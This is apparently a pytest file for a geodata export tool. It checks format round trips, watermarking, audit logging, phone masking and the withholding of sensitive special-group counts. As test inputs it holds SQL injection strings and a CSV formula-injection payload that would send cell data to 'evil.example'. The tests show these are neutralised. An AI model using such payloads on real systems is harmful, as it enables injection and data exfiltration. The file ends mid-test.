"""Exporting: every kind in every format that can carry it, loaded back into a fresh store,
gives the same rows (but the special-group counts, which no export carries); loaded back
into its own store, changes nothing. ``--where`` is parsed, never spliced into SQL. Every
export carries its watermark where the format has room and writes an audit row. Against
real PostGIS, with the demo street loaded from files."""

from __future__ import annotations

import datetime as dt
import hashlib
import json
import re
import sqlite3
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pandas as pd
import pyogrio
import pytest
from sqlalchemy import Engine, text

from loaders.__main__ import main
from loaders.engine import Options, load_file
from loaders.export import (
    EXPORTS,
    SPECIAL_COLUMNS,
    WATERMARK_KEY,
    WITHHELD,
    ExportError,
    ExportSpec,
    SpecialGroupError,
    WhereError,
    export_kind,
    exported_kind,
    parse_where,
)
from loaders.kinds import KINDS
from loaders.sniff import EmptyFileError
from store import access
from store.access import PhoneView
from store.db import make_engine
from store.settings import get_settings
from store.watermark import Watermark, os_user
from tests.access_data import last_export_audit
from tests.test_load import ORDER, files  # noqa: F401  (the demo street as files)

if TYPE_CHECKING:
    from tests.conftest import TestServer

SH = "Asia/Shanghai"
COMMUNITY = "370214900001"
TABLE_FORMATS = ("geojson", "gpkg", "csv", "xlsx")
SUFFIX = {"geojson": ".geojson", "gpkg": ".gpkg", "csv": ".csv", "xlsx": ".xlsx"}
#: Load order of a fresh store: each kind after what it refers to.
LOAD_ORDER = [
    k
    for k in (
        "streets",
        "communities",
        "grids",
        "workers",
        "buildings",
        "incidents",
        "housing",
        "places",
        "facilities",
        "transitions",
        "patrols",
        "worklogs",
    )
    if k in KINDS
]


#: Kinds whose own loader refused the seed file (see test_every_seed_file_loads).
UNLOADABLE: dict[str, str] = {}


def _kinds() -> list[str]:
    return [k for k in LOAD_ORDER if k not in UNLOADABLE]


def _iso(series: pd.Series) -> pd.Series:
    return series.map(lambda v: None if pd.isna(v) else v.tz_convert(SH).isoformat())


def _extra_files(demo, folder: Path) -> dict[str, Path]:
    """The kinds test_load does not write, as CSVs cut from the demo (a few hundred rows
    each, so the round trips stay fast)."""
    staff = demo.staff.set_index("id").code
    out: dict[str, Path] = {}
    if "housing" in KINDS:
        b = demo.building.set_index("id").code
        units = demo.housing_unit[demo.housing_unit.grid_code.str.startswith(COMMUNITY)]
        special = demo.housing_special_count.rename(columns={"housing_unit_id": "id"})
        units = units.merge(special.drop(columns=["grid_code", "street_code"]), "left", "id")
        units = units.assign(building_code=units.building_id.map(b))
        with_special = units[units.updated_on.notna()]
        units = pd.concat([units.head(300), with_special]).drop_duplicates("id")
        cols = [c for c in KINDS["housing"].fields if c in units]
        out["housing"] = folder / "housing.csv"
        units[cols].astype(object).where(units[cols].notna(), None).to_csv(
            out["housing"], index=False, float_format="%.0f"
        )
    for kind, frame in (("places", demo.key_place), ("facilities", demo.facility)):
        if kind in KINDS:
            f = frame.assign(lon=frame.geom.x, lat=frame.geom.y)
            out[kind] = folder / f"{kind}.csv"
            f[[*KINDS[kind].fields, "lon", "lat"]].to_csv(out[kind], index=False)
    if "transitions" in KINDS:
        codes = demo.incident.set_index("id").code
        t = demo.incident_transition[demo.incident_transition.incident_id <= 120].sort_values("id")
        t = t.assign(incident_code=t.incident_id.map(codes), at=_iso(t["at"]))
        t = t.assign(new_due_at=_iso(t.new_due_at))
        out["transitions"] = folder / "transitions.csv"
        t[list(KINDS["transitions"].fields)].to_csv(out["transitions"], index=False)
    if "patrols" in KINDS:
        p = demo.patrol_fix.head(300)
        p = p.assign(worker_code=p.worker_id.map(staff), fixed_at=_iso(p.fixed_at))
        p = p.assign(lon=p.geom.x, lat=p.geom.y)
        out["patrols"] = folder / "patrols.csv"
        p[["worker_code", "fixed_at", "accuracy_m", "lon", "lat"]].to_csv(
            out["patrols"], index=False
        )
    if "worklogs" in KINDS:
        w = demo.work_log.head(300)
        w = w.assign(worker_code=w.worker_id.map(staff))
        out["worklogs"] = folder / "worklogs.csv"
        w[list(KINDS["worklogs"].fields)].to_csv(out["worklogs"], index=False)
    return out


@pytest.fixture(scope="module")
def source(
    server: TestServer,
    template_db: str,
    files,  # noqa: F811
    demo,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[Engine]:
    """A store holding the demo street as loaded from files: the six of test_load plus a
    cut of the demo for every other kind. Read-only by convention, except for reloads that
    must change nothing and the audit rows every export appends."""
    name = server.create("export_src", template=template_db)
    eng = make_engine(server.url(name))
    folder = files["streets"].parent
    for kind, f in ORDER:
        load_file(eng, kind, folder / f, Options())
    extra = _extra_files(demo, tmp_path_factory.mktemp("extra"))
    for kind in LOAD_ORDER:
        if kind in extra:
            try:
                report = load_file(eng, kind, extra[kind], Options())
            except Exception as exc:  # a loader still being written: reported, not hidden
                UNLOADABLE[kind] = repr(exc)[:500]
                continue
            if not report.inserted or report.rejected:
                UNLOADABLE[kind] = report.summary()
    yield eng
    eng.dispose()
    server.drop(name)


# --- the stores compared table by table ------------------------------------------------------

#: Every table the loaders write, surrogate ids replaced by the codes they stand for.
TABLES = {
    "admin_unit": "SELECT code, level, name, parent_code, encode(ST_AsEWKB(geom), 'hex') "
    "FROM admin_unit ORDER BY code",
    "grid": "SELECT g.code, g.name, g.kind, g.community_code, g.street_code, g.households, "
    "s.code AS worker, g.valid_from, g.valid_to, encode(ST_AsEWKB(g.geom), 'hex') FROM grid g "
    "LEFT JOIN staff s ON s.id = g.worker_id ORDER BY g.code",
    "staf": "SELECT code, name, role, phone, street_code, active_from, active_to FROM staff "
    "ORDER BY code",
    "staff_assignment": "SELECT s.code, a.grid_code, a.street_code, a.role, a.valid_from, "
    "a.valid_to FROM staff_assignment a JOIN staff s ON s.id = a.staff_id ORDER BY 1, 2, 4, 5",
    "building": "SELECT code, grid_code, street_code, address, floors, use, "
    "encode(ST_AsEWKB(geom), 'hex'), encode(ST_AsEWKB(footprint), 'hex') "
    "FROM building ORDER BY code",
    "housing_unit": "SELECT b.code, h.grid_code, h.street_code, h.unit_no, h.use, h.occupancy, "
    "h.rented, h.n_registered, h.n_floating, h.n_elderly_alone, h.n_low_income, h.n_disabled, "
    "h.n_veterans, h.n_party_members FROM housing_unit h JOIN building b "
    "ON b.id = h.building_id ORDER BY 1, h.unit_no",
    "housing_special_count": "SELECT b.code, h.unit_no, x.grid_code, x.street_code, "
    "x.n_released_prisoners, x.n_community_correction, x.n_drug_users, "
    "x.n_severe_mental_illness, x.n_key_youth, x.updated_on FROM housing_special_count x "
    "JOIN housing_unit h ON h.id = x.housing_unit_id JOIN building b ON b.id = h.building_id "
    "ORDER BY 1, 2",
    "key_place": "SELECT code, name, kind, address, grid_code, street_code, "
    "encode(ST_AsEWKB(geom), 'hex') FROM key_place ORDER BY code",
    "facility": "SELECT code, kind, name, view_radius_m, grid_code, street_code, "
    "encode(ST_AsEWKB(geom), 'hex') FROM facility ORDER BY code",
    "incident": "SELECT i.code, i.category_code, i.source, i.severity, i.title, i.description, "
    "i.address, i.occurred_at, i.reported_at, i.due_at, r.code AS reporter, i.grid_code, "
    "i.street_code, i.status, i.tier, i.status_at, i.closed_at, i.extended_due_at, "
    "encode(ST_AsEWKB(i.geom), 'hex') FROM incident i LEFT JOIN staff r ON r.id = i.reporter_id "
    "ORDER BY i.code",
    "incident_transition": "SELECT i.code, t.at, t.to_status, t.tier, t.actor, t.note, "
    "t.new_due_at, t.grid_code, t.street_code, rank() OVER (PARTITION BY t.incident_id "
    "ORDER BY t.id) FROM incident_transition t JOIN incident i ON i.id = t.incident_id "
    "ORDER BY 1, 10",
    "patrol_fix": "SELECT s.code, p.fixed_at, p.accuracy_m, p.grid_code, p.street_code, "
    "encode(ST_AsEWKB(p.geom), 'hex') FROM patrol_fix p JOIN staff s ON s.id = p.worker_id "
    "ORDER BY 1, 2",
    "work_log": "SELECT s.code, w.log_date, w.kind, w.grid_code, w.street_code, w.body "
    "FROM work_log w JOIN staff s ON s.id = w.worker_id ORDER BY 1, 2, w.body",
}


def _rows(engine: Engine, table: str) -> list[tuple]:
    with engine.connect() as conn:
        return [tuple(r) for r in conn.execute(text(TABLES[table]))]


def _differences(a: Engine, b: Engine, tables: list[str] | None = None) -> dict[str, str]:
    out = {}
    for table in tables or list(TABLES):
        ra, rb = _rows(a, table), _rows(b, table)
        if ra != rb:
            first = next((x, y) for x, y in zip([*ra, None], [*rb, None], strict=False) if x != y)
            out[table] = f"{len(ra)} vs {len(rb)} rows; first difference {first}"
    return out


def _export_all(engine: Engine, fmt: str, folder: Path) -> dict[str, Path]:
    """Every kind exported as for a district-role user: worker phone numbers in full, so
    that the workers file loads back (masked numbers do not: see the phone tests)."""
    paths = {}
    for kind in _kinds():
        paths[kind] = folder / f"{kind}{SUFFIX[fmt]}"
        export_kind(engine, kind, paths[kind], fmt=fmt, phones=PhoneView(full=True))
    return paths


def _without_column(path: Path, fmt: str, column: str) -> Path:
    """The file less one column (a grids file without its workers, for the first pass)."""
    out = path.with_name(f"{path.stem}_no_{column}{path.suffix}")
    if fmt == "csv":
        pd.read_csv(path, dtype=str, encoding="utf-8-sig").drop(columns=[column]).to_csv(
            out, index=False, encoding="utf-8-sig"
        )
    else:
        frame = pyogrio.read_dataframe(path)
        pyogrio.write_dataframe(
            frame.drop(columns=[column]), out, driver=pyogrio.detect_write_driver(str(out))
        )
    return out


def _load_fresh(engine: Engine, paths: dict[str, Path], fmt: str) -> dict[str, tuple[int, list]]:
    """Load exported files into an empty store. Grids name their workers and workers their
    grids, so a fresh store takes the grids without workers first and the full grids file
    after the workers."""
    done = {}
    for kind in [k for k in _kinds() if k in paths]:
        path = paths[kind]
        if kind == "grids":
            path = _without_column(path, fmt, "worker_code")
        r = load_file(engine, kind, path, Options())
        done[kind] = (r.inserted + r.updated, r.rejected)
        if kind == "workers":
            again = load_file(engine, "grids", paths["grids"], Options())
            assert (again.inserted, again.updated, again.rejected) == (0, 0, [])
    return done


def test_every_seed_file_loads(source: Engine) -> None:
    """The round trips below cover every kind whose loader took its seed file."""
    assert UNLOADABLE == {}


@pytest.mark.parametrize("fmt", TABLE_FORMATS)
def test_export_then_load_into_a_fresh_store_gives_the_same_rows(
    source: Engine, fresh_engine: Engine, fmt: str, tmp_path: Path
) -> None:
    paths = _export_all(source, fmt, tmp_path)
    loaded = _load_fresh(fresh_engine, paths, fmt)
    assert all(not rejected for _, rejected in loaded.values()), loaded
    # special groups never leave below grid level (issue 7): the fresh store has none
    carried = [t for t in TABLES if t != "housing_special_count"]
    assert _differences(source, fresh_engine, carried) == {}
    assert _rows(source, "housing_special_count")
    assert _rows(fresh_engine, "housing_special_count") == []


@pytest.mark.parametrize("fmt", TABLE_FORMATS)
def test_reloading_an_export_into_its_own_store_changes_nothing(
    source: Engine, fmt: str, tmp_path: Path
) -> None:
    before = {t: _rows(source, t) for t in TABLES}
    for kind, path in _export_all(source, fmt, tmp_path).items():
        r = load_file(source, kind, path, Options())
        assert (r.inserted, r.updated, r.rejected) == (0, 0, []), (kind, r.summary())
    assert {t: _rows(source, t) for t in TABLES} == before


def test_open311_carries_what_georeport_v2_has(
    source: Engine, fresh_engine: Engine, tmp_path: Path
) -> None:
    """Open311 holds id, category, title, description, address, time, deadline
    (``expected_datetime``) and place: loaded into a fresh store those come back exactly;
    source, severity, occurrence time and reporter do not travel."""
    paths = _export_all(source, "gpkg", tmp_path)
    _load_fresh(fresh_engine, {k: paths[k] for k in LOAD_ORDER[:4]}, "gpkg")
    load_file(fresh_engine, "buildings", paths["buildings"], Options())
    path = tmp_path / "incidents.json"
    done = export_kind(source, "incidents", path, fmt="open311")
    doc = json.loads(path.read_text(encoding="utf-8"))
    assert len(doc) == done.rows == 1997
    first = doc[0]
    assert first["requested_datetime"].endswith("+08:00")
    assert first["expected_datetime"].endswith("+08:00")
    assert first["status"] in ("open", "closed")
    assert {"service_request_id", "service_code", "service_name", "lat", "long"} <= set(first)
    report = load_file(fresh_engine, "incidents", path, Options())
    assert (report.inserted, report.rejected) == (1997, [])
    carried = (
        "SELECT code, category_code, title, description, address, reported_at, due_at, "
        "grid_code, street_code, encode(ST_AsEWKB(geom), 'hex') FROM incident ORDER BY code"
    )
    with source.connect() as a, fresh_engine.connect() as b:
        assert a.execute(text(carried)).all() == b.execute(text(carried)).all()


# --- filters ----------------------------------------------------------------------------------


def test_where_filters_with_bound_values(source: Engine, tmp_path: Path) -> None:
    path = tmp_path / "some.csv"
    done = export_kind(
        source,
        "incidents",
        path,
        where=[f"community_code={COMMUNITY}", "reported_at>=2026-03-01", "severity>1"],
    )
    with source.connect() as conn:
        expected = conn.execute(
            text(
                "SELECT count(*) FROM incident WHERE left(grid_code, 12) = :c "
                "AND reported_at >= TIMESTAMPTZ '2026-03-01 00:00+08' AND severity > 1"
            ),
            {"c": COMMUNITY},
        ).scalar_one()
    assert 0 < done.rows == expected
    frame = pd.read_csv(path, dtype=str, encoding="utf-8-sig")
    assert (frame.grid_code.str[:12] == COMMUNITY).all()
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    assert frame.reported_at.str.endswith("+08:00").all()


def test_an_injection_attempt_is_a_value_that_matches_nothing(
    source: Engine, tmp_path: Path
) -> None:
    path = tmp_path / "none.geojson"
    done = export_kind(source, "grids", path, where=["street_code=x' OR '1'='1"])
    assert done.rows == 0
    assert "empty file" in done.summary()
    assert json.loads(path.read_text())["features"] == []
    with source.connect() as conn:
        assert conn.execute(text("SELECT count(*) FROM grid")).scalar_one() == 41


@pytest.mark.parametrize(
    ("condition", "match"),
    [
        ("1=1; DROP TABLE grid", "unknown field '1'|expected FIELD=VALUE"),
        ("code=1; DROP TABLE grid --", None),  # a value: bound, matches nothing
        ("name=x", "unknown field 'name'.*fields allowed: code, street_code"),
        ("street_code", "expected FIELD=VALUE"),
        ("valid_from>=yesterday", "not a valid date"),
        ("geom IS NOT NULL OR TRUE", "expected FIELD=VALUE"),
    ],
)
def test_where_refuses_anything_but_field_op_value(condition: str, match: str | None) -> None:
    if match is None:
        assert parse_where([condition], "grids")[0].value == "1; DROP TABLE grid --"
        return
    with pytest.raises(WhereError, match=match):
        parse_where([condition], "grids")


def test_cli_refuses_sql_in_where_and_writes_nothing(
    source: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    monkeypatch.setenv("DATABASE_URL", source.url.render_as_string(hide_password=False))
    get_settings.cache_clear()
    try:
        path = tmp_path / "grids.csv"
        assert main(["export", "grids", str(path), "--where", "1=1; DROP TABLE grid"]) == 2
        assert "fields allowed" in capsys.readouterr().err
        assert not path.exists()
        refused = last_export_audit(source)
        assert (refused.ok, refused.detail["where"]) == (False, ["1=1; DROP TABLE grid"])
        assert "fields allowed" in refused.detail["refused"]
        where = f"community_code={COMMUNITY}"
        assert main(["export", "grids", str(path), "--where", where]) == 0
        assert "exported 6 grids" in capsys.readouterr().out
        assert (pd.read_csv(path, dtype=str, encoding="utf-8-sig").code.str[:12] == COMMUNITY).all()
    finally:
        get_settings.cache_clear()


# --- formats, CRS, empty results ---------------------------------------------------------------


def test_formats_record_their_crs(source: Engine, tmp_path: Path) -> None:
    export_kind(source, "grids", tmp_path / "g.gpkg")
    assert pyogrio.read_info(tmp_path / "g.gpkg", layer="grids")["crs"] == "EPSG:4490"
    export_kind(source, "grids", tmp_path / "g.geojson")
    assert pyogrio.read_info(tmp_path / "g.geojson")["crs"] == "EPSG:4326"
    export_kind(source, "buildings", tmp_path / "b.csv", crs="EPSG:4549")
    header = (tmp_path / "b.csv").read_text(encoding="utf-8-sig").splitlines()[0]
    assert header.endswith(",x,y,wkt")  # projected: easting/northing, then the footprint


def test_gcj02_only_where_the_file_cannot_lie_about_it(source: Engine, tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="no EPSG code"):
        export_kind(source, "buildings", tmp_path / "b.geojson", crs="gcj02")
    export_kind(source, "buildings", tmp_path / "b.csv", crs="gcj02", where=["floors>=1"])
    report = load_file(source, "buildings", tmp_path / "b.csv", Options(crs="gcj02"))
    assert report.inserted == 0 and not report.rejected  # GCJ-02 back within centimetres


@pytest.mark.parametrize("fmt", [*TABLE_FORMATS, "open311"])
def test_an_empty_result_is_a_valid_empty_file(source: Engine, tmp_path: Path, fmt: str) -> None:
    path = tmp_path / f"empty.{fmt}"
    done = export_kind(source, "incidents", path, fmt=fmt, where=["reported_at<2001-01-01"])
    assert done.rows == 0 and "nothing matched" in done.summary()
    if fmt == "open311":
        assert json.loads(path.read_text()) == []
    elif fmt == "csv":
        assert path.read_text(encoding="utf-8-sig").startswith("code,category_code,")
    elif fmt == "xlsx":  # the header stays, so the file is a template to fill in
        header = pyogrio.read_dataframe(path, read_geometry=False)
        assert header.iloc[0].tolist()[:3] == ["code", "category_code", "source"]
        with pytest.raises(EmptyFileError, match="no data rows"):
            load_file(source, "incidents", path, Options())
    else:
        info = pyogrio.read_info(path)
        assert info["features"] == 0


def test_csv_cells_excel_would_run_as_formulas_are_quoted_and_load_back_exactly(
    files,  # noqa: F811
    fresh_engine: Engine,
    tmp_path: Path,
) -> None:
    folder = files["streets"].parent
    for kind, f in ORDER:
        load_file(fresh_engine, kind, folder / f, Options())
    evil = {
        "description": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
        "address": "+86 138 0000 0000",
        "title": "@SUM(1+1)",
    }
    code = files["incidents_frame"].code.iloc[0]
    with fresh_engine.begin() as conn:
        conn.execute(
            text("UPDATE incident SET description = :d, address = :a, title = :t WHERE code = :c"),
            {"d": evil["description"], "a": evil["address"], "t": evil["title"], "c": code},
        )
    path = tmp_path / "incidents.csv"
    export_kind(fresh_engine, "incidents", path, fmt="csv", where=[f"code={code}"])
    row = pd.read_csv(path, dtype=str, encoding="utf-8-sig").iloc[0]
    for field, value in evil.items():
        assert row[field] == "'" + value
    with fresh_engine.begin() as conn:
        conn.execute(text("UPDATE incident SET description = NULL WHERE code = :c"), {"c": code})
    report = load_file(fresh_engine, "incidents", path, Options())
    assert report.updated == 1, report.summary()
    got = "SELECT description, address, title FROM incident WHERE code = :c"
    with fresh_engine.connect() as conn:
        assert tuple(conn.execute(text(got), {"c": code}).one()) == tuple(evil.values())


def test_open311_is_for_incidents_only(source: Engine, tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="incidents only"):
        export_kind(source, "grids", tmp_path / "g.json", fmt="open311")


def test_every_kind_exports_exactly_the_fields_its_loader_reads(
    source: Engine, tmp_path: Path
) -> None:
    """Adding a kind to loaders.kinds means one entry in loaders.export.EXPORTS."""
    assert set(KINDS) <= set(EXPORTS)
    geometry_columns = {"point": ["lon", "lat"], "polygon": ["wkt"], "line": ["wkt"], None: []}
    for name, kind in KINDS.items():
        export_kind(source, name, tmp_path / f"{name}.csv", where=["street_code=none"])
        header = (tmp_path / f"{name}.csv").read_text(encoding="utf-8-sig").splitlines()[0]
        footprint = ["wkt"] if kind.footprints else []  # buildings: the footprint as WKT
        fields = [f for f in kind.fields if f not in WITHHELD.get(name, ())]
        assert list(exported_kind(kind).fields) == fields
        assert header.split(",") == [
            *fields,
            *geometry_columns[kind.geometry],
            *footprint,
        ], name


# --- building footprints ------------------------------------------------------------------


@pytest.fixture(scope="module")
def footprint_source(
    server: TestServer,
    template_db: str,
    files,  # noqa: F811
    demo,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[Engine]:
    """A store whose buildings have footprints: loaded from a CSV giving each building's
    point (lon/lat) beside its footprint (wkt); some rows give only the point, some only
    the footprint (their point: its point on surface)."""
    name = server.create("export_fp", template=template_db)
    eng = make_engine(server.url(name))
    folder = files["streets"].parent
    for kind, f in ORDER[:4]:
        load_file(eng, kind, folder / f, Options())
    b = demo.building.head(400)
    table = b[["code", "address", "floors", "use"]].assign(
        lon=[repr(v) for v in b.geom.x],
        lat=[repr(v) for v in b.geom.y],
        wkt=[p.wkt if p is not None else None for p in b.footprint],
    )
    table.loc[table.index[::5], "wkt"] = None  # points only
    only_footprint = [i for i in range(1, 400, 7) if i % 5]
    table.loc[table.index[only_footprint], ["lon", "lat"]] = None  # footprints only
    path = tmp_path_factory.mktemp("fp") / "buildings.csv"
    table.to_csv(path, index=False)
    report = load_file(eng, "buildings", path, Options())
    assert (report.inserted, report.rejected) == (400, []), report.summary()
    yield eng
    eng.dispose()
    server.drop(name)


def test_a_building_file_gives_the_point_beside_the_footprint(
    footprint_source: Engine, demo
) -> None:
    b = demo.building.head(400).reset_index(drop=True)
    with footprint_source.connect() as conn:
        stored = conn.execute(
            text(
                "SELECT code, ST_X(geom), ST_Y(geom), footprint IS NOT NULL, "
                "ST_Equals(geom, ST_PointOnSurface(footprint)) FROM building ORDER BY code"
            )
        ).all()
    rows = {r[0]: r for r in stored}
    with_both = [i for i in range(400) if i % 5 and (i - 1) % 7]
    assert with_both and all(
        rows[b.code[i]][1:4] == (b.geom.x[i], b.geom.y[i], True) for i in with_both
    )
    assert all(not rows[b.code[i]][3] for i in range(0, 400, 5))  # points only
    assert all(rows[b.code[i]][4] for i in range(1, 400, 7) if i % 5)  # footprint only
    # the case the round trip is about: a point that is not the footprint's point on surface
    assert sum(not rows[b.code[i]][4] for i in with_both) > 100


@pytest.mark.parametrize("fmt", TABLE_FORMATS)
def test_buildings_with_footprints_round_trip(
    footprint_source: Engine,
    fresh_engine: Engine,
    files,  # noqa: F811
    fmt: str,
    tmp_path: Path,
) -> None:
    path = tmp_path / f"buildings{SUFFIX[fmt]}"
    done = export_kind(footprint_source, "buildings", path, fmt=fmt)
    assert done.rows == 400
    for kind, f in ORDER[:4]:
        load_file(fresh_engine, kind, files["streets"].parent / f, Options())
    report = load_file(fresh_engine, "buildings", path, Options())
    assert (report.inserted, report.rejected) == (400, []), report.summary()
    assert _differences(footprint_source, fresh_engine, ["building"]) == {}
    again = load_file(footprint_source, "buildings", path, Options())
    assert (again.inserted, again.updated, again.rejected) == (0, 0, []), again.summary()


# --- special groups -------------------------------------------------------------------------


def test_no_export_carries_special_group_data(source: Engine, tmp_path: Path) -> None:
    """Issue 7: special groups never in exports below grid level. The store holds them; no
    kind's file, in any format, has a special-group column or the date of those counts; the
    summary says what was withheld."""
    with source.connect() as conn:
        assert conn.execute(text("SELECT count(*) FROM housing_special_count")).scalar_one() > 0
    for fmt in TABLE_FORMATS:
        for kind in _kinds():
            path = tmp_path / f"{kind}{SUFFIX[fmt]}"
            done = export_kind(source, kind, path, fmt=fmt)
            if fmt == "csv":
                columns = set(pd.read_csv(path, dtype=str, encoding="utf-8-sig").columns)
            else:
                columns = set(pyogrio.read_info(path)["fields"])
            assert not columns & SPECIAL_COLUMNS, (kind, fmt)
            if kind == "housing":
                assert "updated_on" not in columns
                assert "withheld" in done.summary() and "never exported" in done.summary()


def test_an_export_that_would_carry_special_groups_is_refused_and_audited(
    source: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """If a spec ever selects special-group counts again (here: housing as it was before
    issue 7), the export refuses, naming the rule, writes nothing and records the refusal."""
    leaky = ExportSpec(
        sql="SELECT b.code AS building_code, h.unit_no, h.use, h.occupancy, h.n_registered, "
        "x.n_released_prisoners, x.n_drug_users, x.n_severe_mental_illness, "
        "h.grid_code, h.street_code, left(h.grid_code, 12) AS community_code "
        "FROM housing_unit h JOIN building b ON b.id = h.building_id "
        "LEFT JOIN housing_special_count x ON x.housing_unit_id = h.id",
        filters=EXPORTS["housing"].filters,
        order=("building_code", "unit_no"),
    )
    monkeypatch.setitem(EXPORTS, "housing", leaky)
    path = tmp_path / "housing.csv"
    with pytest.raises(SpecialGroupError, match="never in exports below grid level"):
        export_kind(source, "housing", path)
    assert not path.exists() and not list(tmp_path.iterdir())
    row = last_export_audit(source)
    assert (row.ok, row.detail["kind"]) == (False, "housing")
    assert "n_drug_users" in row.detail["refused"]


# --- watermark and audit ------------------------------------------------------------------------

WM = Watermark("张三", "zhangsan", dt.datetime(2026, 11, 30, 21, 45, tzinfo=dt.UTC))


def _watermark_of(path: Path, fmt: str) -> dict[str, str] | None:
    """The watermark fields as the file carries them, None where the format has none."""
    if fmt == "geojson":
        return json.loads(path.read_text(encoding="utf-8"))[WATERMARK_KEY]
    if fmt == "gpkg":
        with sqlite3.connect(path) as db:
            (description,) = db.execute("SELECT description FROM gpkg_contents").fetchone()
        meta = pyogrio.read_info(path)["dataset_metadata"]
        prefix = WATERMARK_KEY.upper() + "_"
        fields = {k.removeprefix(prefix).lower(): v for k, v in meta.items()}
        assert description == fields["text"]
        return fields
    if fmt == "xlsx":
        with zipfile.ZipFile(path) as z:
            core = z.read("docProps/core.xml").decode()
            sheet = z.read("xl/worksheets/sheet1.xml").decode()
        header = re.search(r"<oddHeader>&amp;C(.*?)</oddHeader>", sheet)
        footer = re.search(r"<oddFooter>&amp;L(.*?)&amp;R", sheet)
        creator = re.search(r"<dc:creator>(.*?)</dc:creator>", core)
        description = re.search(r"<dc:description>(.*?)</dc:description>", core)
        assert header and footer and creator and description
        return {
            "header": header.group(1),
            "footer": footer.group(1),
            "creator": creator.group(1),
            "text": description.group(1),
        }
    return None


@pytest.mark.parametrize("fmt", [*TABLE_FORMATS, "open311"])
def test_every_export_is_watermarked_where_it_can_be_and_audited(
    source: Engine, tmp_path: Path, fmt: str
) -> None:
    path = tmp_path / f"incidents.{fmt}"
    where = [f"community_code={COMMUNITY}"]
    done = export_kind(source, "incidents", path, fmt=fmt, where=where, watermark=WM, via="test")
    carried = _watermark_of(path, fmt)
    text_ = f"{WM.line('zh')} / {WM.line('en')}"
    if fmt in ("geojson", "gpkg"):
        assert carried == {
            "user": "张三",
            "login": "zhangsan",
            "at": "2026-12-01T05:45:00+08:00",
            "text": text_,
        }
    elif fmt == "xlsx":
        assert carried == {
            "header": WM.line("zh"),
            "footer": WM.line("en"),
            "creator": "张三（zhangsan）",
            "text": text_,
        }
    else:  # csv, open311: nothing in the file; the audit row identifies it
        assert carried is None
        assert "SHA-256" in done.summary()
    body = path.read_bytes()
    row = last_export_audit(source)
    assert (row.login, row.ok) == ("zhangsan", True)
    assert row.detail == {
        "via": "test",
        "kind": "incidents",
        "format": fmt,
        "crs": "EPSG:4490" if fmt == "gpkg" else "EPSG:4326",
        "where": where,
        "rows": done.rows,
        "out": str(path.resolve()),
        "bytes": len(body),
        "sha256": hashlib.sha256(body).hexdigest(),
        "withheld": [],
        "watermark": {"user": "张三", "login": "zhangsan", "at": "2026-12-01T05:45:00+08:00"},
    }
    assert done.rows > 0 and done.sha256 == row.detail["sha256"]


def test_cli_export_names_the_user_in_watermark_and_audit(
    source: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    monkeypatch.setenv("DATABASE_URL", source.url.render_as_string(hide_password=False))
    get_settings.cache_clear()
    try:
        path = tmp_path / "grids.geojson"
        assert main(["export", "grids", str(path), "--user", "lisi"]) == 0
        assert "recorded in the audit log" in capsys.readouterr().out
        assert _watermark_of(path, "geojson")["login"] == "lisi"
        row = last_export_audit(source)
        assert (row.login, row.detail["via"], row.detail["rows"]) == ("lisi", "cli", 41)
        assert main(["export", "grids", str(path)]) == 0
        assert last_export_audit(source).login == os_user()
        assert _watermark_of(path, "geojson")["user"] == os_user()
        assert main(["export", "grids", str(path), "--user", ""]) == 2
        assert "1–64" in capsys.readouterr().err
    finally:
        get_settings.cache_clear()


# --- worker phone numbers ---------------------------------------------------------------------


@pytest.fixture(scope="module")
def phone_users(source: Engine) -> dict[str, str]:
    """A district-role login, a grid-role login whose own record is a worker with a phone,
    and that worker's code (made once in the module's store)."""
    with source.begin() as conn:
        own, grid = conn.execute(
            text(
                "SELECT s.code, g.code FROM staff s JOIN grid g ON g.worker_id = s.id "
                "WHERE s.phone IS NOT NULL ORDER BY s.code LIMIT 1"
            )
        ).one()
        district = conn.execute(
            text("SELECT left(code, 6) || '000000' FROM admin_unit WHERE level = 'street' LIMIT 1")
        ).scalar_one()
        if access.get_user(conn, "qu_phone") is None:
            access.create_user(
                conn, "qu_phone", "区级", "district", district, "Secret123456", actor="test"
            )
            access.create_user(
                conn,
                "wg_phone",
                "网格员",
                "grid",
                grid,
                "Secret123456",
                staff_code=own,
                actor="test",
            )
    return {"district": "qu_phone", "grid": "wg_phone", "own": own}


def _stored_phones(engine: Engine) -> dict[str, str | None]:
    with engine.connect() as conn:
        return dict(conn.execute(text("SELECT code, phone FROM staff ORDER BY code")).all())


def _exported_phones(path: Path) -> dict[str, str | None]:
    frame = pd.read_csv(path, dtype=str, encoding="utf-8-sig", keep_default_na=False)
    return {c: p or None for c, p in zip(frame["code"], frame["phone"], strict=True)}


def _cli_workers(source: Engine, path: Path, *user: str) -> int:
    return main(["export", "workers", str(path), *(("--user", *user) if user else ())])


@pytest.fixture
def cli_source(source: Engine, monkeypatch: pytest.MonkeyPatch) -> Iterator[Engine]:
    monkeypatch.setenv("DATABASE_URL", source.url.render_as_string(hide_password=False))
    get_settings.cache_clear()
    yield source
    get_settings.cache_clear()


def test_a_district_user_exports_phone_numbers_in_full(
    cli_source: Engine, phone_users: dict[str, str], tmp_path: Path, capsys
) -> None:
    path = tmp_path / "workers.csv"
    assert _cli_workers(cli_source, path, phone_users["district"]) == 0
    assert "masked" not in capsys.readouterr().out
    stored = _stored_phones(cli_source)
    assert _exported_phones(path) == stored
    assert sum(p is not None for p in stored.values()) > 10
    row = last_export_audit(cli_source)
    assert (row.login, row.detail["phones"]) == ("qu_phone", "full")


def test_anyone_else_sees_phone_numbers_masked_but_their_own(
    cli_source: Engine, phone_users: dict[str, str], tmp_path: Path, capsys
) -> None:
    stored = _stored_phones(cli_source)
    own = phone_users["own"]
    for user, full in ((phone_users["grid"], {own}), (None, set())):
        path = tmp_path / f"workers_{user}.csv"
        assert _cli_workers(cli_source, path, *([user] if user else [])) == 0
        assert "phone numbers are masked" in capsys.readouterr().out
        got = _exported_phones(path)
